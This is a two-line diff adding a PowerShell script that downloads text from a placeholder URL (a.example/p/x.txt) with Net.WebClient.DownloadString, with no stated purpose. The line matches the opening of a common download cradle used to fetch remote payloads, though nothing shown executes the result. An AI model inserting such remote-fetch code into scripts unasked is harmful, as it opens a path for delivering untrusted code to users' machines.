@@ -1,0 +1,2 @@
+param([string]$u='http://a.example/p/x.txt')
+(New-Object Net.WebClient).DownloadString($u)
